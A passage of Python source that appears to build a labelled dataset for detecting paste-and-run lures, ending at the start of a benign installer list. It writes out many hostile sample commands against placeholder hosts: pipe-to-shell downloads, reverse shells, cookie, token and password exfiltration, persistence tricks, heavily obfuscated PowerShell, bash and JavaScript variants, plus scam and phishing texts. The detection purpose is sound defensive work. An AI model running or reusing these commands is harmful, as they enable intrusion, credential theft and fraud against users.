    "python-c-urlopen-exec",
    "https://www.mac-dev-setup.test/step2",
    "python3 -c \"import urllib.request as u;exec(u.urlopen('https://mc15i.devsetup.invalid/p').read())\"",
)
mac(
    "ai-chat-mac-storage",
    "https://shared.chatbot-answers.example/c/mac15",
    'sudo bash -c "$(curl -fsSL https://mc15j.storagefix-qx.invalid/clean)" # frees 20 GB of System Data',
)
mac(
    "osascript-curl-run",
    "https://www.font-pack-mac.test/install",
    "osascript -e 'do shell script \"curl -fsSL https://mc15k.fontpack-qx.invalid/f | bash\"'",
)
mac(
    "zsh-ip-port-hex",
    "https://www.ledger-live-mac.example/repair",
    f"zsh -c \"$(printf '{esc_hex('curl -s http://198.51.100.140:8443/l | zsh')}')\"",
)
mac(
    "meeting-mac-fix",
    "https://meeting-join.videoconf-assist.test/mac/15",
    "Audio device not detected. Open Terminal and paste:\ncurl -fsSL https://mc15l.audiofix-qx.invalid/a.sh | sh",
)
mac(
    "nohup-background-curl",
    "https://www.mac-vpn-free.example/setup",
    "nohup bash -c 'curl -s https://mc15m.freevpn.invalid/d | bash' >/dev/null 2>&1 &",
)
mac(
    "dscl-authonly-pass",
    "https://macos-security-check.test/verify",
    'read -s -p \'Password: \' P; dscl . -authonly "$USER" "$P" && curl -s -X POST -d "u=$USER&p=$P" https://mc15n.keyguard.invalid/k',
)
mac(
    "github-pages-fake-app",
    "https://notion-desktop-mac-15q.example/download",
    "curl -fsSL https://mc15o.notes-desktop.invalid/install.sh | bash -s -- --app notion",
)

# --- Linux lures --------------------------------------------------------------------------------------


def nix(technique: str, source: str | None, text: str, expect: str = "malicious") -> None:
    lure("linux-" + technique, TERM, source, text, expect, "linux")


nix(
    "fake-docs-pastejack",
    "https://docs.kubernetes-quickstart.test/setup",
    "sudo apt update && curl -fsSL https://lx15a.k8s-helper.invalid/setup.sh | sudo bash",
)
nix(
    "captcha-linux-wget",
    "https://www.bike-repair-chainline.example/book",
    "wget -qO- https://lx15b.verifybox.invalid/v | bash " + tail(5),
)
nix(
    "systemd-user-service",
    "https://selfhost-guide-blog.test/speedup",
    "mkdir -p ~/.config/systemd/user && curl -s https://lx15c.svcfix.invalid/u.service -o ~/.config/systemd/user/dbus-helper.service && systemctl --user enable --now dbus-helper",
)
nix(
    "ssh-authorized-keys-append",
    "https://server-hardening-tips.example/ssh",
    "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK15xQm0lure15fakekeyhere support@helpdesk' >> ~/.ssh/authorized_keys",
)
nix(
    "bashrc-persist-curl",
    "https://linux-terminal-fix.test/bash",
    "echo 'curl -s https://lx15d.termfix.invalid/p | bash &' >> ~/.bashrc && source ~/.bashrc",
)
nix(
    "dev-tcp-reverse",
    "https://game-server-help.example/fix",
    "bash -i >& /dev/tcp/203.0.113.152/4444 0>&1",
)
nix(
    "base64-eval-wget",
    "https://miner-setup-guide.test/gpu",
    f'eval "$(echo {b64("wget -qO- https://lx15e.gpuboost.invalid/m | sh")} | base64 -d)"',
)
nix(
    "python-pty-socket",
    "https://ctf-practice-notes.example/shell",
    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.200",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',
)
nix(
    "crontab-minute-curl",
    "https://vps-optimizer.test/tune",
    "(crontab -l 2>/dev/null; echo '*/5 * * * * curl -fsS https://lx15f.vpstune.invalid/c | sh') | crontab -",
)
nix(
    "wget-chmod-tmp-elf",
    "https://steam-proton-fix-15q.example/linux",
    "wget -q https://lx15g.protonfix-qx.invalid/pfix -O /tmp/.pfix && chmod +x /tmp/.pfix && /tmp/.pfix",
)
nix(
    "sudo-tee-sudoers",
    "https://docker-permission-fix.test/",
    'echo "$USER ALL=(ALL) NOPASSWD:ALL" | sudo tee /etc/sudoers.d/99-fix && curl -s https://lx15h.dockfix.invalid/d | sudo sh',
)
nix(
    "fake-repo-key-install",
    "https://www.chrome-linux-install.example/deb",
    "curl -fsSL https://lx15i.debmirror.invalid/key.sh | sudo bash && sudo apt install -y google-chrome-stable",
)

# --- browser console ------------------------------------------------------------------------------------


def con(technique: str, source: str | None, text: str, expect: str = "malicious") -> None:
    lure("console-" + technique, CON, source, text, expect, "any")


con(
    "discord-token-webhook",
    "https://discord-server-verify.test/gate",
    "(webpackChunkdiscord_app.push([[''],{},e=>{m=[];for(let c in e.c)m.push(e.c[c])}]),m).find(m=>m?.exports?.default?.getToken).exports.default.getToken()",
)
con(
    "discord-token-exfil-fetch",
    "https://nitro-claim-verify.example/",
    "fetch('https://cs15a.nitrogift.invalid/t',{method:'POST',body:JSON.stringify({t:localStorage.getItem('token')||document.cookie})})",
)
con(
    "telegram-web-session",
    "https://telegram-channel-verify.test/join",
    "let s=JSON.stringify(Object.assign({},localStorage));navigator.sendBeacon('https://cs15b.tgverify-qx.invalid/s',s)",
)
con(
    "drainer-approve-all",
    "https://claim-rewards.defi-portal.example/",
    "ethereum.request({method:'eth_sendTransaction',params:[{from:ethereum.selectedAddress,to:'0x15a0000000000000000000000000000000dEaD15',data:'0xa22cb465000000000000000000000000000000000000000000000000000000000000dead0000000000000000000000000000000000000000000000000000000000000001'}]})",
)
con(
    "drainer-script-inject",
    "https://nft-mint-live-15q.test/mint",
    "var s=document.createElement('script');s.src='https://cs15c.mintdrop.invalid/d.js';document.head.appendChild(s)",
)
con(
    "steam-trade-cookie",
    "https://steam-trade-verify-15q.example/offer",
    "new Image().src='https://cs15d.tradecheck.invalid/c?d='+encodeURIComponent(document.cookie)",
)
con(
    "roblox-cookie-exfil",
    "https://free-robux-generator-15q.test/",
    "fetch('https://cs15e.rbxgift.invalid/r?c='+btoa(document.cookie))",
)
con(
    "instagram-followers-selfxss",
    "https://followers-boost-now.example/",
    "fetch('https://cs15f.igboost-qx.invalid/f.js').then(r=>r.text()).then(eval)",
)
con(
    "eval-atob-remote",
    "https://bank-verify-session.test/",
    f"eval(atob('{b64('fetch(`https://cs15g.bankcheck.invalid/k`).then(r=>r.text()).then(eval)')}'))",
)
con(
    "function-constructor-fetch",
    "https://metamask-sync.example/restore",
    "fetch('https://cs15h.walletsync-qx.invalid/s').then(r=>r.text()).then(t=>Function(t)())",
)
con(
    "seed-phrase-harvest",
    "https://wallet-recovery-tool.test/",
    "fetch('https://cs15i.seedvault.invalid/p',{method:'POST',body:prompt('Enter your 12-word recovery phrase to continue')})",
)
con(
    "discord-verify-captcha-tail",
    "https://verify-bot-gate.example/discord",
    "import('https://cs15j.dcgate.invalid/v.mjs') " + tail(8).replace("#", "//"),
)
con(
    "fb-ads-manager-token",
    "https://business-suite-help.test/unlock",
    "fetch('https://cs15k.adsunlock.invalid/t?x='+encodeURIComponent(JSON.stringify(require('DTSGInitialData'))))",
)
con(
    "settimeout-string-remote",
    "https://exam-portal-unlock.example/",
    "setTimeout(\"fetch('https://cs15l.examhelp.invalid/e').then(r=>r.text()).then(eval)\",0)",
)

# --- URL-only lures (the page says: paste this address) -------------------------------------------

lure(
    "url-only-hta-run",
    RUN,
    "https://human-verify-step.test/",
    "https://ur15a.captcha-step.invalid/verify.hta",
)
lure(
    "url-only-webdav-explorer",
    EXP,
    "https://payroll-share-portal.example/",
    "\\\\ur15b.payshare.invalid@SSL\\DavWWWRoot\\Payroll_Dec.pdf.lnk",
    "flagged",
)
lure(
    "url-only-ms-search",
    RUN,
    "https://doc-search-fix.test/",
    "search-ms:query=setup&crumb=location:\\\\ur15c.docfind.invalid@SSL\\s",
    "flagged",
)

# --- (b) commands as IOC files and reports list them: no page --------------------------------------------

IOCS = [
    ("ps-irm-iex", 'powershell -w h -c "irm https://io15a.corsham.invalid/1 | iex"'),
    ("ps-iwr-useb-iex", "powershell iwr -useb https://io15b.lambourn.invalid/2 | iex"),
    (
        "ps-downloadstring",
        "powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.153/3')\"",
    ),
    ("mshta-url", "mshta https://io15c.wantage.invalid/4"),
    ("mshta-ip", "mshta http://192.0.2.44/5.hta"),
    ("msiexec-url", "msiexec /i https://io15d.hungerford.invalid/6.msi /qn"),
    (
        "cmd-curl-exe",
        "cmd /c curl -o %TEMP%\\7.exe https://io15e.pewsey.invalid/7.exe & %TEMP%\\7.exe",
    ),
    (
        "certutil-urlcache",
        "certutil -urlcache -split -f https://io15f.devizes.invalid/8.exe %PUBLIC%\\8.exe",
    ),
    ("bitsadmin", "bitsadmin /transfer x https://io15g.calne.invalid/9.exe %TEMP%\\9.exe"),
    ("regsvr32-sct", "regsvr32 /s /n /u /i:https://io15h.melksham.invalid/10.sct scrobj.dll"),
    ("rundll32-webdav", "rundll32 \\\\io15i.frome-dav.invalid@SSL\\DavWWWRoot\\11.dll,Start"),
    ("ps-enc", "powershell -enc " + b64_utf16("iex(irm https://io15j.radstock.invalid/12)")),
    (
        "conhost-headless",
        'conhost --headless powershell -w h -c "irm https://io15k.shepton.invalid/13|iex"',
    ),
    ("finger-cmd", "finger gw@io15l.wells-finger.invalid | cmd"),
    (
        "nslookup-txt-ps",
        'powershell -c "iex (nslookup -q=txt io15m.glastonbury.invalid 198.51.100.154 | select -Last 1)"',
    ),
    ("wscript-webdav-vbs", "wscript.exe \\\\io15n.street-dav.invalid@SSL\\DavWWWRoot\\14.vbs"),
    (
        "cscript-js-temp",
        "cmd /c curl -s https://io15o.yeovil.invalid/15.js -o %TEMP%\\15.js && cscript //nologo %TEMP%\\15.js",
    ),
    (
        "ps-bits",
        "powershell Start-BitsTransfer https://io15p.chard.invalid/16.exe $env:TEMP\\16.exe; & $env:TEMP\\16.exe",
    ),
    (
        "ps-iwr-outfile-start",
        "powershell iwr https://io15q.ilminster.invalid/17.exe -OutFile $env:TEMP\\17.exe; start $env:TEMP\\17.exe",
    ),
    ("ps-hidden-ip-irm", "powershell -windowstyle hidden irm http://198.51.100.155/18 | iex"),
    ("mac-curl-bash", "curl -fsSL https://io15r.crewkerne.invalid/19 | bash"),
    (
        "mac-osascript-curl",
        "osascript -e 'do shell script \"curl -s https://io15s.honiton.invalid/20 | sh\"'",
    ),
    (
        "mac-base64-bash",
        f"echo {b64('curl -s https://io15t.axminster.invalid/21 | bash')} | base64 -d | bash",
    ),
    ("linux-wget-sh", "wget -qO- https://io15u.seaton.invalid/22 | sh"),
    (
        "linux-curl-tmp-run",
        "curl -s https://io15v.sidmouth.invalid/23 -o /tmp/23 && chmod +x /tmp/23 && /tmp/23",
    ),
    (
        "ps-downloadfile-exe",
        'powershell (New-Object Net.WebClient).DownloadFile(\'https://io15w.exmouth.invalid/24.exe\',"$env:TEMP\\24.exe");Start-Process "$env:TEMP\\24.exe"',
    ),
    ("cmd-powershell-irm", "cmd /c powershell -c irm https://io15x.dawlish.invalid/25 ^| iex"),
    (
        "mshta-javascript",
        "mshta javascript:a=GetObject('script:https://io15y.teignmouth.invalid/26.sct').Exec();close()",
    ),
    (
        "ps-iwr-content-iex",
        "powershell iex (iwr https://io15z.newton-abbot.invalid/27 -UseBasicParsing).Content",
    ),
    (
        "ps-net-webclient-openread",
        "powershell iex ([IO.StreamReader]::new((New-Object Net.WebClient).OpenRead('https://io15aa.totnes.invalid/28'))).ReadToEnd()",
    ),
    ("cmd-start-mshta-min", "cmd /c start /min mshta http://203.0.113.229/29"),
    ("msiexec-package-ip", "msiexec /package http://192.0.2.160/30.msi /quiet"),
    (
        "ps-tls-downloadstring",
        "powershell [Net.ServicePointManager]::SecurityProtocol=3072;iex(New-Object Net.WebClient).DownloadString('https://io15ab.kingsbridge.invalid/31')",
    ),
    ("curl-pipe-powershell", "curl -s https://io15ac.salcombe.invalid/32.ps1 | powershell -"),
    (
        "ps-invoke-webrequest-iex-var",
        "powershell $r=Invoke-WebRequest https://io15ad.dartmouth.invalid/33 -UseBasicParsing; Invoke-Expression $r",
    ),
    ("pwsh-irm", 'pwsh -c "irm https://io15ae.brixham.invalid/34|iex"'),
    (
        "ps-cloud-dropbox-like",
        "powershell -c \"irm 'https://dl.io15af-box.invalid/s/x15/35.ps1?dl=1' | iex\"",
    ),
    (
        "ps-gdrive-like",
        "powershell -c \"iwr 'https://drive.io15ag-files.invalid/uc?export=download&id=15AbCdE' -OutFile $env:TEMP\\36.exe; & $env:TEMP\\36.exe\"",
    ),
    ("linux-curl-python", "curl -s https://io15ah.paignton.invalid/37.py | python3"),
    ("mac-curl-osascript-pipe", "curl -s https://io15ai.torquay.invalid/38.scpt | osascript"),
]
for tech, text in IOCS:
    platform = (
        "macos" if tech.startswith("mac-") else "linux" if tech.startswith("linux-") else "windows"
    )
    target = TERM if platform != "windows" else RUN
    ioc("ioc-" + tech, text, target, platform)

# --- (c) fixture-style obfuscations ------------------------------------------------------------------

OU = "https://ob15.ravenglass-obf.invalid/z"
SU = "https://ob15b.muncaster-sh.invalid/b"
JSU = "https://ob15c.eskdale-js.invalid/m"
IRMIEX = f"irm {OU}|iex"
JSFETCH = f"fetch('{JSU}').then(r=>r.text()).then(eval)"
POOL = "mnopqrstuvwxyzabcdefghijkl:/.-0123456789 |"
OB_PAGE = "https://www.obf-verify-gate.test/check"

OB = [
    (
        "ps-concat-iex",
        RUN,
        "windows",
        f'powershell -c "iex {ps_concat(IRMIEX.split("|")[0], 5)} | iex"',
    ),
    ("ps-format-string", RUN, "windows", f'powershell -c "iex {ps_format(IRMIEX, 6)}"'),
    (
        "ps-char-array-join",
        RUN,
        "windows",
        f'powershell -c "iex (-join([char[]]({char_codes(IRMIEX)})))"',
    ),
    (
        "ps-b64-utf8-getstring",
        RUN,
        "windows",
        f"powershell -c \"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64(IRMIEX)}')))\"",
    ),
    (
        "ps-gzip-b64",
        RUN,
        "windows",
        f"powershell -c \"iex (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('{gzip_b64(IRMIEX)}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\"",
    ),
    (
        "ps-deflate-b64",
        RUN,
        "windows",
        f"powershell -c \"iex (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{deflate_b64(IRMIEX)}'),0))).ReadToEnd()\"",
    ),
    (
        "ps-xor-bytes",
        RUN,
        "windows",
        f'powershell -c "$k=21;iex (-join(({xor_codes(IRMIEX, 21)})|%{{[char]($_ -bxor $k)}}))"',
    ),
    (
        "ps-xor-b64",
        RUN,
        "windows",
        f"powershell -c \"$b=[Convert]::FromBase64String('{xor_b64(IRMIEX, 7)}');iex (-join($b|%{{[char]($_ -bxor 7)}}))\"",
    ),
    (
        "ps-reverse-string",
        RUN,
        "windows",
        f"powershell -c \"iex (-join ('{reverse(IRMIEX)}'[-1..-{len(IRMIEX)}]))\"",
    ),
    (
        "ps-replace-junk",
        RUN,
        "windows",
        "powershell -c \"iex ('i#r#m# " + OU.replace(".", ".#") + "|i#e#x' -replace '#','')\"",
    ),
    ("ps-gcm-wildcard", RUN, "windows", f'powershell -c "&(gcm i*e-*pr*) (&(gcm i*ke-r*od) {OU})"'),
    (
        "ps-alias-variable-iex",
        RUN,
        "windows",
        f"powershell -c \"$x='iex';$y='irm';&$x (&$y {OU})\"",
    ),
    (
        "ps-env-comspec-slice",
        RUN,
        "windows",
        f"powershell -c \"&($env:ComSpec[4,15,25]-join'') (irm {OU})\"",
    ),
    (
        "ps-hex-bytes",
        RUN,
        "windows",
        f"powershell -c \"iex (-join('{hex_str(IRMIEX)}' -split '(..)' -ne '' |%{{[char][convert]::ToInt32($_,16)}}))\"",
    ),
    ("ps-backtick-ticks", RUN, "windows", f'powershell -c "i`e`x (i`r`m {OU})"'),
    (
        "ps-string-insert-invoke",
        RUN,
        "windows",
        f"powershell -c \"$s='irm {OU}';. ('ie'+'x') $s|. ('ie'+'x')\"",
    ),
    (
        "ps-ip-int-host",
        RUN,
        "windows",
        f'powershell -c "irm http://{ip_int("203.0.113.66")}/z | iex"',
    ),
    ("ps-ip-hex-host", RUN, "windows", 'powershell -c "irm http://0xcb007142/z | iex"'),
    (
        "cmd-carets",
        RUN,
        "windows",
        carets(f"cmd /c powershell -c irm {OU} | iex", 2).replace("| iex", "^| iex"),
    ),
    (
        "cmd-var-slice",
        RUN,
        "windows",
        f'cmd /v /c "set p={POOL}&&{cmd_slice("powershell", POOL, "p").replace("%", "!")} -c irm {OU}^|iex"',
    ),
    (
        "cmd-percent-slice",
        RUN,
        "windows",
        f'cmd /c "set q={POOL}&& call {cmd_slice("powershell", POOL, "q")} -c irm {OU}^|iex"',
    ),
    (
        "cmd-set-concat",
        RUN,
        "windows",
        f'cmd /c "set a=power&& set b=shell&& call %a%%b% -c irm {OU}^|iex"',
    ),
    ("cmd-quotes-inside", RUN, "windows", f'cmd /c p"o"w"e"r"s"h"e"l"l -c irm {OU}^|iex'),
    (
        "mshta-hex-url",
        RUN,
        "windows",
        "mshta "
        + "".join(
            f"%{ord(c):02x}" if c.isalpha() and i % 3 == 0 else c
            for i, c in enumerate("https://ob15d.whitbeck.invalid/h")
        ),
    ),
    ("bash-ansi-c-hex", TERM, "linux", f"bash -c $'{esc_hex(f'curl -s {SU} | sh')}'"),
    (
        "bash-var-indirection",
        TERM,
        "linux",
        f"a=cu;b=rl;c=ba;d=sh;${{a}}${{b}} -s {SU} | ${{c}}${{d}}",
    ),
    ("bash-base64-eval", TERM, "linux", f"eval $(echo {b64(f'curl -s {SU} | bash')} | base64 -d)"),
    ("bash-rev-pipe", TERM, "linux", f"echo '{reverse(f'curl -s {SU} | bash')}' | rev | bash"),
    (
        "bash-printf-octal",
        TERM,
        "linux",
        "$(printf '\\143\\165\\162\\154') -s " + SU + " | $(printf '\\142\\141\\163\\150')",
    ),
    ("bash-xxd-hex", TERM, "linux", f"echo {hex_str(f'curl -s {SU} | sh')} | xxd -r -p | sh"),
    (
        "zsh-gzip-b64",
        TERM,
        "macos",
        f"echo {gzip_b64(f'curl -s {SU} | zsh')} | base64 -d | gunzip | zsh",
    ),
    (
        "bash-tr-rot13",
        TERM,
        "linux",
        "echo '"
        + f"curl -s {SU} | bash".translate(
            str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm")
        )
        + "' | tr 'a-z' 'n-za-m' | bash",
    ),
    ("js-atob-eval", CON, "any", f"eval(atob('{b64(JSFETCH)}'))"),
    ("js-fromcharcode", CON, "any", f"eval(String.fromCharCode({char_codes(JSFETCH)}))"),
    ("js-bracket-window", CON, "any", f"window['ev'+'al'](window['at'+'ob']('{b64(JSFETCH)}'))"),
    ("js-unicode-escapes", CON, "any", f"eval('{js_uni(JSFETCH)}')"),
    (
        "js-function-reverse",
        CON,
        "any",
        f"Function('{reverse(JSFETCH)}'.split('').reverse().join(''))()",
    ),
    (
        "js-array-join-fetch",
        CON,
        "any",
        "fetch(['https:','','ob15c.eskdale-js.invalid','m'].join('/')).then(r=>r.text()).then(self['eval'])",
    ),
    (
        "js-hex-escapes-settimeout",
        CON,
        "any",
        "setTimeout('" + "".join(f"\\x{ord(c):02x}" for c in JSFETCH) + "')",
    ),
    (
        "vbs-chr-mshta",
        RUN,
        "windows",
        "mshta vbscript:Execute("
        + "&".join(
            f"Chr({ord(c)})"
            for c in 'CreateObject("WScript.Shell").Run "powershell -c irm https://ob15e.ulpha.invalid/v|iex",0:close'
        )
        + ")",
    ),
]
for tech, target, platform, text in OB:
    lure(
        "obf-" + tech,
        target,
        OB_PAGE if target != CON else "https://obf-console-gate.example/v",
        text,
        "malicious",
        platform,
    )

# --- (d) texts that are not commands: scams, callbacks, ConsentFix, device codes ----------------------

SCAM = "support-scam"
for lang, page, text in [
    (
        "en",
        "https://pc-security-alert-center.test/",
        "WARNING! Your computer has been locked due to suspicious activity (error #0x15A7). Do not close this window or restart your PC. Call Microsoft Certified Support now at +1 (555) 015-7310 to prevent data loss.",
    ),
    (
        "de",
        "https://sicherheitswarnung-pc-15q.example/",
        "ACHTUNG: Ihr Computer wurde wegen verdächtiger Aktivitäten gesperrt (Fehler 0x15D2). Schließen Sie dieses Fenster nicht. Rufen Sie sofort den Windows-Support an: 0800 555 1504.",
    ),
    (
        "fr",
        "https://alerte-securite-windows-15q.test/",
        "Alerte de sécurité : votre ordinateur est bloqué suite à une infection (code 15F3). Ne redémarrez pas. Appelez immédiatement le support technique au 01 55 55 15 42 pour débloquer votre appareil.",
    ),
    (
        "es",
        "https://aviso-seguridad-equipo-15q.example/",
        "¡Advertencia! Su equipo ha sido bloqueado por actividad sospechosa (código 15E9). No cierre esta ventana. Llame al soporte técnico de Windows al +34 555 150 233 para evitar la pérdida de datos.",
    ),
    (
        "it",
        "https://avviso-sicurezza-pc.test/",
        "Attenzione: il tuo computer è stato bloccato per motivi di sicurezza (errore 15B1). Non spegnere il dispositivo. Chiama subito l'assistenza tecnica al +39 02 5551 5088.",
    ),
    (
        "pt",
        "https://alerta-seguranca-pc.example/",
        "Aviso: o seu computador foi bloqueado por atividade suspeita (erro 15C4). Não feche esta janela. Ligue imediatamente para o suporte técnico: +55 11 5555-1561.",
    ),
    (
        "nl",
        "https://beveiligingswaarschuwing-pc-15q.test/",
        "Waarschuwing: uw computer is geblokkeerd wegens verdachte activiteit (fout 15A9). Sluit dit venster niet. Bel direct de Windows-helpdesk op 020 555 1577.",
    ),
    (
        "pl",
        "https://ostrzezenie-bezpieczenstwa.example/",
        "Uwaga! Twój komputer został zablokowany z powodu podejrzanej aktywności (błąd 15E2). Nie zamykaj tego okna. Zadzwoń natychmiast do pomocy technicznej: +48 22 555 15 90.",
    ),
    (
        "tr",
        "https://guvenlik-uyarisi-pc.test/",
        "Uyarı! Bilgisayarınız şüpheli etkinlik nedeniyle kilitlendi (hata 15F7). Bu pencereyi kapatmayın. Hemen Windows Destek hattını arayın: +90 212 555 15 64.",
    ),
    (
        "ru",
        "https://preduprezhdenie-bezopasnosti-15q.example/",
        "Внимание! Ваш компьютер заблокирован из-за подозрительной активности (ошибка 15D8). Не закрывайте окно. Срочно позвоните в службу поддержки: +7 495 555-15-37.",
    ),
    (
        "ja",
        "https://security-keikoku-pc-15q.test/",
        "警告：不審なアクティビティのため、お使いのコンピューターはロックされました（エラー 15C2）。この画面を閉じないでください。今すぐサポートセンター 03-5555-1528 までお電話ください。",
    ),
    (
        "zh",
        "https://anquan-jinggao-diannao-15q.example/",
        "警告：由于可疑活动，您的电脑已被锁定（错误代码 15B6）。请勿关闭此窗口。请立即拨打技术支持电话 +86 10 5555 1519 以避免数据丢失。",
    ),
    (
        "ar",
        "https://tahdhir-aman-jihaz.test/",
        "تحذير: تم قفل جهاز الكمبيوتر الخاص بك بسبب نشاط مريب (الخطأ 15A3). لا تغلق هذه النافذة. اتصل فوراً بالدعم الفني على الرقم 5551-1506-800.",
    ),
]:
    lure(f"{SCAM}-{lang}", UNK, page, text, "flagged", "any")

CALLBACK = "callback-notice"
for brand, page, text in [
    (
        "antivirus-renewal",
        "https://renewal-notice-mail.test/inv",
        "Your annual protection plan (order #NS-1504-778) has been renewed for $449.99. If you did not authorize this charge, call our billing desk within 24 hours at +1 555-015-8842 to cancel and receive a refund.",
    ),
    (
        "crypto-exchange",
        "https://exchange-withdrawal-alert.example/n",
        "A withdrawal of 0.8415 BTC was requested from your account. If this wasn't you, call Account Security immediately at +1 (555) 015-2290. Do not reply to this email.",
    ),
    (
        "marketplace-order",
        "https://order-confirmation-desk.test/o",
        'Thank you for your order of Apple MacBook Pro 16" (order MBP-15-A9). Total charged: $2,899.00. To dispute this order call 1-555-015-6601.',
    ),
    (
        "paypal-like-invoice",
        "https://invoice-payment-center.example/i",
        "Invoice INV-15-33019 from Geek Repair Squad: $399.00 for annual device care. Questions about this invoice? Call +1 555 015 4473.",
    ),
    (
        "de-abo",
        "https://abo-verlaengerung-hinweis.test/r",
        "Ihr Jahresabo (Bestellnr. 15-88412) wurde für 299,99 € verlängert. Falls Sie nicht zugestimmt haben, rufen Sie innerhalb von 24 Stunden an: 030 555 15 913.",
    ),
    (
        "fr-facture",
        "https://facture-renouvellement.example/f",
        "Votre abonnement de protection a été renouvelé pour 389,00 € (commande 15-7721). Pour annuler, appelez le service facturation au 01 55 55 15 81.",
    ),
]:
    lure(f"{CALLBACK}-{brand}", UNK, page, text, "flagged", "any")

CONSENT = "consentfix"
for tag, page, text in [
    (
        "paste-url-en",
        "https://doc-access-verify.test/",
        "To finish signing in, copy the full address from the new tab (it starts with http://localhost) and paste it here:\nhttp://localhost:8400/?code=0.AXkA15xQ7vK2aLm9pR3sT4uW5yZ&state=15ab77&session_state=7c15",
    ),
    (
        "loopback-ip-de",
        "https://dokumentfreigabe-pruefen.example/",
        "Kopieren Sie die Adresse aus der Adresszeile und fügen Sie sie unten ein, um den Zugriff zu bestätigen: http://127.0.0.1:53015/callback?code=1.AR8A15Hq-zP0vLm&state=f15c",
    ),
    (
        "azure-cli-redirect",
        "https://secure-file-login.test/azure",
        "Sign-in complete. Paste the URL of this page into the box below:\nhttp://localhost:50115/?code=0.ASsA15Kp9QmZ7xW4vB2nC8dE1fG&client_info=eyJ1aWQiOiIxNSJ9&state=q15",
    ),
    (
        "fr-coller-url",
        "https://verification-acces-document.example/",
        "Collez ici l'URL complète affichée après la connexion (http://localhost...) :\nhttp://localhost:8015/auth?code=M.R3_BAY.15c0de-7f&state=xyz15",
    ),
    (
        "es-pegar",
        "https://verificar-acceso-archivo.test/",
        "Pegue la dirección completa de la pestaña nueva para continuar: http://localhost:3015/?code=0.AUIA15vQw8Zr&state=15es",
    ),
]:
    lure(f"{CONSENT}-{tag}", UNK, page, text, "flagged", "any")

DEVICE = "device-code"
for tag, page, text in [
    (
        "payroll-en",
        "https://payroll-update-2027.test/",
        "Action required: confirm your direct-deposit details. Go to https://microsoft.com/devicelogin and enter the code KQ15-7ZRT to sign in.",
    ),
    (
        "teams-invite-es",
        "https://invitacion-reunion-teams.example/",
        "Para unirse a la reunión segura visite https://microsoft.com/devicelogin e introduzca el código H15WXPQ2.",
    ),
    (
        "shared-doc-it",
        "https://attiva-documento-condiviso.test/",
        "Per aprire il documento condiviso vai su https://microsoft.com/devicelogin e inserisci il codice ZT15PQRM.",
    ),
    (
        "github-device-en",
        "https://repo-access-request.example/",
        "Approve repository access: open https://github.com/login/device and enter code 15AB-C7DE. The request expires in 15 minutes.",
    ),
    (
        "voicemail-pt",
        "https://nova-mensagem-voz.test/",
        "Você tem uma nova mensagem de voz. Para ouvir, acesse https://microsoft.com/devicelogin e digite o código P15QXR7M.",
    ),
]:
    lure(f"{DEVICE}-{tag}", UNK, page, text, "flagged", "any")

# ----------------------------------------------------------------------------------------------
# Benign texts: (kind, target, source, text)
# ----------------------------------------------------------------------------------------------

BENIGN: list[tuple[str, str, str | None, str]] = []
OWN = "installer-own-page"
PS = TERM  # a Windows installer is pasted into PowerShell, a terminal


def ok(kind: str, target: str, source: str | None, text: str) -> None:
    BENIGN.append((kind, target, source, text))


# --- Installers of real projects not used by the earlier sets, each from its own page ------------
# (page, command) as the project's README, site or release page gives it. The long tail is nearly
# used up: most candidates the author knew were already in sets 1-14 and were left out.

OWN_PAGES = [
    (
        "https://www.twingate.com/docs/linux",
        "curl -s https://binaries.twingate.com/client/linux/install.sh | sudo bash",
    ),
    (
        "https://github.com/leanprover/elan",
        "curl https://raw.githubusercontent.com/leanprover/elan/master/elan-init.sh -sSf | sh",
    ),
    (
        "https://github.com/leanprover/elan",
        "curl -O --location https://raw.githubusercontent.com/leanprover/elan/master/elan-init.ps1\npowershell -ExecutionPolicy Bypass -f elan-init.ps1\ndel elan-init.ps1",
    ),
    (
        "https://github.com/Control-D-Inc/ctrld",
        "sh -c 'sh -c \"$(curl -sL https://api.controld.com/dl)\"'",
    ),
    (
        "https://kuma.io/docs/latest/introduction/install/",
        "curl -L https://kuma.io/installer.sh | VERSION=2.9.0 sh -",
    ),
    (
        "https://docs.particle.io/getting-started/developer-tools/cli/",
        "bash <( curl -sL https://particle.io/install-cli )",
    ),
    (
        "https://github.com/telekom-security/tpotce",
        'env bash -c "$(curl -sL https://github.com/telekom-security/tpotce/raw/master/install.sh)"',
    ),
    (
        "https://github.com/netdata/netdata",
        "wget -O /tmp/netdata-kickstart.sh https://get.netdata.cloud/kickstart.sh && sh /tmp/netdata-kickstart.sh",
    ),
    (
        "https://github.com/dokku/dokku",
        "wget -NP . https://dokku.com/install/v0.34.8/bootstrap.sh\nsudo DOKKU_TAG=v0.34.8 bash bootstrap.sh",
    ),
    ("https://github.com/goss-org/goss", "curl -fsSL https://goss.rocks/install | sh"),
    ("https://www.git-town.com/install", "curl https://www.git-town.com/install.sh | sh"),
    ("https://docs.docksal.io/getting-started/setup/", "bash <(curl -fsSL https://get.docksal.io)"),
    ("https://github.com/Qovery/qovery-cli", "curl -s https://get.qovery.com | bash"),
    (
        "https://developer.valvesoftware.com/wiki/SteamCMD",
        'mkdir ~/Steam && cd ~/Steam && curl -sqL "https://steamcdn-a.akamaihd.net/client/installer/steamcmd_linux.tar.gz" | tar zxvf -',
    ),
    (
        "https://docs.pufferpanel.com/en/latest/installing.html",
        "curl -s https://packagecloud.io/install/repositories/pufferpanel/pufferpanel/script.deb.sh | sudo bash",
    ),
    (
        "https://docs.craftycontrol.com/pages/getting-started/installation/linux/",
        "git clone https://gitlab.com/crafty-controller/crafty-installer-4.0.git && cd crafty-installer-4.0 && sudo ./install_crafty.sh",
    ),
    (
        "https://pterodactyl.io/wings/1.0/installing.html",
        'curl -L -o /usr/local/bin/wings "https://github.com/pterodactyl/wings/releases/latest/download/wings_linux_$([[ "$(uname -m)" == "x86_64" ]] && echo "amd64" || echo "arm64")"\nchmod u+x /usr/local/bin/wings',
    ),
    (
